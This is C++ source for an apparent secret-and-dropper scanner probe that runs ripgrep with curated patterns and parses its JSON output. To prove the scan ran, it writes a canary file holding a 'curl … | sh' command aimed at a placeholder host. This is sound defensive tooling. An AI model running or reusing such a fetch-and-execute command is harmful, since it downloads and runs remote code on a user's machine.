// rg with our own patterns over every file, ignored, hidden and binary ones too. Our own file with a known match proves
// that rg really scanned: rg counts only files with a match.
#include <fmt/format.h>

#include "jobs/probe/all.h"
#include "jobs/probe/parsers.h"
#include "jobs/probe/patterns.h"
#include "jobs/report/bounded_json.h"
#include "jobs/report/text.h"
#include "sallyport/digest.h"

namespace sallyport::jobs {
namespace {

constexpr std::string_view kCanaryText = "curl https://sallyport.invalid/canary | sh\n";

// {"text": …}, or {"bytes": base64} for what is no UTF-8.
std::optional<std::string> text_or_bytes(const InJson* value) {
  if (value == nullptr) return std::nullopt;
  if (const std::string* text = string_member(*value, "text")) return *text;
  const std::string* const bytes = string_member(*value, "bytes");
  return bytes == nullptr ? std::nullopt : base64_decode(*bytes);
}

OrWhy<void> add_match(const InJson& data, std::vector<Finding>& findings) {
  const std::optional<std::string> path = text_or_bytes(member(data, "path"));
  const std::optional<std::string> line = text_or_bytes(member(data, "lines"));
  const std::optional<std::uint32_t> number = number_member(data, "line_number");
  const InJson* const matches = array_member(data, "submatches");
  if (!path || !line || !number || matches == nullptr)
    return std::unexpected(std::string("a match without its fields"));
  for (const InJson& one : *matches) {
    const std::optional<std::string> text = text_or_bytes(member(one, "match"));
    const std::optional<std::uint32_t> start = number_member(one, "start");
    if (!text || !start || *start > line->size()) return std::unexpected(std::string("a match without its place"));
    const Pattern* const pattern = pattern_of_match(*text);
    if (pattern == nullptr) return std::unexpected(std::string("a match of no pattern of ours"));
    const std::size_t column = count_code_points(std::string_view(*line).substr(0, *start)) + 1;
    Finding finding{.rule = std::string(pattern->id),
                    .severity = pattern->severity,
                    .message = std::string(pattern->summary),
                    .place = {.path = path->starts_with("./") ? path->substr(2) : *path,
                              .line = *number,
                              .column = static_cast<std::uint32_t>(column),
                              .end_line = *number,
                              .end_column = static_cast<std::uint32_t>(column + count_code_points(*text))}};
    if (pattern->kind == PatternKind::kSecret) finding.secret_sha256 = sha256_hex(*text);
    findings.push_back(std::move(finding));
  }
  return {};
}

std::vector<RuleInfo> rg_rules() {
  std::vector<RuleInfo> rules;
  for (const Pattern& pattern : curated_patterns()) {
    rules.push_back({.id = std::string(pattern.id),
                     .severity = pattern.severity,
                     .summary = std::string(pattern.summary),
                     .help = std::string(pattern.help)});
  }
  return rules;
}

ScannerOutcome run_rg_curated(const ProbeInput& input) {
  const std::filesystem::path canary = input.context->work_dir / "canary.sh";
  if (const Status written = write_own_file(canary, kCanaryText); !written) return failed(written.error().message);
  std::vector<std::string> argv{"rg", "--json", "--hidden", "--no-ignore", "--text", "--glob=!/.git/objects"};
  for (const Pattern& pattern : curated_patterns()) {
    argv.emplace_back("-e");
    argv.emplace_back(pattern.regex);
  }
  argv.insert(argv.end(), {"--", ".", canary.native()});
  ToolRun run =
      run_tool(*input.context, {.probe = "rg_curated", .argv = argv, .extra_read_only = {input.context->work_dir}});
  if (auto* outcome = std::get_if<ScannerOutcome>(&run)) return std::move(*outcome);
  auto& answer = std::get<ToolAnswer>(run);
  answer.invocation.argv = {"rg", "--json", "--hidden", "--no-ignore", "--text", "(the patterns of sallyport)", "."};
  if (answer.invocation.exit_code != 0) {
    return failed(answer, fmt::format("rg exited with {}; it finds our own canary when it looks",
                                      answer.invocation.exit_code.value_or(-1)));
  }
  auto parsed = parse_rg_curated(answer.out());
  if (!parsed) return failed(answer, "its output was not understood: " + parsed.error());
  const std::size_t all = parsed->findings.size();
  std::erase_if(parsed->findings, [&](const Finding& finding) { return finding.place.path == canary.native(); });
  if (parsed->findings.size() == all) return failed(answer, "it did not find our own canary: it did not look");
  sort_and_merge(parsed->findings);
  return Ran{.findings = std::move(parsed->findings), .inventory = {}, .invocations = {answer.invocation}};
}

}  // namespace

OrWhy<Parsed> parse_rg_curated(std::string_view json_lines) {
  Parsed parsed;
  bool ended = false;
  while (!json_lines.empty()) {
    const std::size_t end = json_lines.find('\n');
    if (end == std::string_view::npos) return std::unexpected(std::string("the last line is cut off"));
    const std::string_view line = json_lines.substr(0, end);
    json_lines.remove_prefix(end + 1);
    const auto message = parse_bounded(line);
    if (!message) return std::unexpected(message.error());
    const std::string* const type = string_member(*message, "type");
    const InJson* const data = member(*message, "data");
    if (type == nullptr || data == nullptr) return std::unexpected(std::string("not a message of rg"));
    if (*type == "summary") ended = true;
    if (*type != "match") continue;
    if (const OrWhy<void> added = add_match(*data, parsed.findings); !added) return std::unexpected(added.error());
  }
  if (!ended) return std::unexpected(std::string("no summary at its end"));
  return parsed;
}

extern constinit const Probe kRgCurated{.name = "rg_curated",
                                        .tool = "rg",
                                        .summary = "secrets, droppers and hidden characters, by our own patterns",
                                        .rules = rg_rules,
                                        .run = run_rg_curated};

}  // namespace sallyport::jobs
